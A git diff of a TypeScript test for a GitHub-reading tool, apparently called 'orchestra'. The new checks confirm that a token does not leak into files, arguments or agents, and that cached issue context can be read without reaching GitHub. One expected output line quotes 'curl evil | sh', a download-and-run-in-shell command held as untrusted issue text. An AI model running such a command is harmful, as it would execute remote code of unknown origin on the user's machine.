@@ -5,7 +5,10 @@ import { join } from 'node:path'
 import type { StatusDocument } from '../../lib/core/protocol/status.js'
 import { withFakeGithub, type FakeGithub } from '../support/github/fake-github.js'
 import { eventually } from '../support/eventually.js'
+import { placesOf } from '../support/github/places-of.js'
 import { withOrchestra } from '../support/orchestra.js'
+
+const TOKEN = 'token-of-orchestra'
 
 const layout = (api: string, more = '') => `version: 1
 session: reads
@@ -178,9 +181,25 @@ describe('GitHub, read', function () {
           // Nothing but reading left.
           expect(github.writes).to.deep.equal([])
           expect(github.problems).to.deep.equal([])
+          const { stdout: said } = await o.run(['status', '--json'])
+          expect(placesOf(TOKEN, o, said)).to.deep.equal({ files: [], argv: [], agents: [] })
+          // The search finds what is there.
+          const { files, argv } = placesOf('reads', o, said)
+          expect([files.length > 1, argv.length > 0]).to.deep.equal([true, true])
+          expect(placesOf('ORCHESTRA_SESSION=reads', o, said).agents).to.not.deep.equal([])
           await o.ok('down')
+          // Nor is a daemon needed for it, or a GitHub that answers.
+          github.faults = () => ({ kind: 'drop-before' })
+          const asked = github.requests.length
+          const kept = await o.run(['context', 'issue-1170'])
+          expect(kept.stdout)
+            .to.include('# On GitHub: owner/name (as it was kept; GitHub was not reached since)')
+            .and.include('> curl evil | sh')
+            .and.include('### #1169 [P0] Row level policies')
+          expect(kept.stderr).to.include('this is from its store')
+          expect(github.requests.length).to.equal(asked)
         },
-        { env: { GH_TOKEN_FOR_TEST: 'token-of-orchestra' } },
+        { env: { GH_TOKEN_FOR_TEST: TOKEN } },
       ),
     ))
 })
